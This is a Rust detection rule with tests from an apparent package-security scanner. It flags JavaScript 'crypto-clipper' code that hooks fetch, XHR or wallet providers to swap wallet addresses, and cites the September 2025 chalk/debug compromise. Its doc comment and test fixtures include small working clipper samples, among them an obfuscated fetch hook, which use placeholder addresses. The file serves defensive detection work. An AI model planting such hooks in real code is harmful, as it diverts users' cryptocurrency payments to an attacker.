//! `crypto-clipper`: code that hooks a page's network APIs or wallet provider and holds
//! wallet addresses of several chains to swap in.

use crate::declare_rule;
use crate::detect::campaigns::{self, Confidence};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::{Action, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports code that replaces the functions a web page talks through — `window.fetch`,
    /// `XMLHttpRequest.prototype.open`/`send`, the wallet provider `window.ethereum.request`,
    /// the clipboard — and holds wallet addresses (or address regexes) of two or more chains
    /// (Ethereum, Bitcoin, Tron) to swap into what the user sees or signs. Hooks reached
    /// through an obfuscator's string array (`w[a[2]] = …`) count through the API names left
    /// in the array.
    ///
    /// ## Why is this a risk?
    /// A clipper rewrites the recipient of every transaction a dApp sends to an attacker
    /// address that looks alike. It needs no install script and no permission: any bundle that
    /// includes the package runs it in the browser. This is how the chalk/debug compromise of
    /// September 2025 stole from 2.6 billion weekly downloads' worth of users.
    ///
    /// ## Example
    /// ```js
    /// const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, "0x000000000000000000000000000000000000dEaD")
    ///                      .replace(/bc1[a-z0-9]{25,39}/g, "bc1qfakefakefakefakefakefakefakefake000");
    /// const send = XMLHttpRequest.prototype.send;
    /// XMLHttpRequest.prototype.send = function (b) { return send.call(this, swap(b)); };
    /// ```
    ///
    /// ## False positives
    /// Web3 libraries hold address constants and regexes but do not replace `fetch` or XHR;
    /// fetch polyfills and request mocks replace them but hold no wallet addresses; the
    /// all-zero Ethereum address is ignored. A hook with addresses of one chain and wallet
    /// provider methods (`eth_sendTransaction`) is only recorded (monitor).
    ///
    /// ## References
    /// - chalk/debug compromise, Sept 2025 (incident 11 of `reference/incidents.md`)
    /// - Socket, Aikido and Semgrep write-ups of the `qix` account takeover
    CryptoClipper, id = "crypto-clipper", category = Malicious, severity = Critical, action = Warn,
}

impl Rule for CryptoClipper {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let detected = cx.shared(pkg, campaigns::Campaigns::detect);
        let Some(ev) = detected.get(Self::META.id) else {
            return;
        };
        let action = match ev.confidence {
            Confidence::High => Self::META.default_action,
            Confidence::Medium => Action::Monitor,
        };
        if let Some(f) = ev.finding(&Self::META, action) {
            cx.report(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    const PLAIN: &str = r"
const W = { eth: '0x000000000000000000000000000000000000dEaD', btc: 'bc1qfakefakefakefakefakefakefakefake000' };
const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, W.eth).replace(/bc1[a-z0-9]{25,39}/g, W.btc);
if (typeof window !== 'undefined') {
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (b) { return send.call(this, swap(b)); };
}
";

    const OBFUSCATED: &str = r"
var _0x3d=['ethereum','request','fetch','prototype','open','send','eth_sendTransaction'];
(function(){var w=window;var a={eth:['0x000000000000000000000000000000000000bEEF'],trx:['TFakeTronAddressDoNotUse1111111111']};
var f=w[_0x3d[2]];w[_0x3d[2]]=async function(){return f.apply(this,arguments);};})();
";

    #[test]
    fn crypto_clipper() {
        let pass = [
            // A web3 library: address constants, provider methods, no hook.
            (
                "index.js",
                "export const ZERO = '0x0000000000000000000000000000000000000000';\n\
                 export const DEAD = '0x000000000000000000000000000000000000dEaD';\n\
                 export async function send(p, tx) { return p.request({ method: 'eth_sendTransaction', params: [tx] }); }\n",
            ),
            // A fetch polyfill: replaces fetch, holds no addresses.
            (
                "polyfill.js",
                "if (!self.fetch) { self.fetch = function (u) { return new Promise(() => {}); }; }\n",
            ),
            // A request mock replacing XHR with an Ethereum address in a fixture-like constant.
            (
                "mock.js",
                "const ADDR = '0x52908400098527886E0F7030069857D2E4169EE7';\n\
                 XMLHttpRequest.prototype.open = function () { this.mocked = true; };\n",
            ),
            // The clipper in a test directory is not runtime code.
            ("test/clipper.js", PLAIN),
        ];
        let fail = [("index.js", PLAIN), ("dist/index.js", OBFUSCATED)];
        let t = Tester::new(super::CryptoClipper).pass(pass).fail(fail);
        t.test_and_snapshot();
        let f = t.findings([("index.js", PLAIN)]);
        assert_eq!(f[0].action, Action::Warn);
        assert_eq!(f[0].evidence["confidence"], "high");
        // One chain and provider methods with a hook: recorded, not warned.
        let medium = t.findings([(
            "index.js",
            "const A = '0x000000000000000000000000000000000000dEaD';\n\
             const m = 'eth_sendTransaction';\n\
             window.fetch = function () {};\n",
        )]);
        assert_eq!(medium[0].action, Action::Monitor);
    }
}
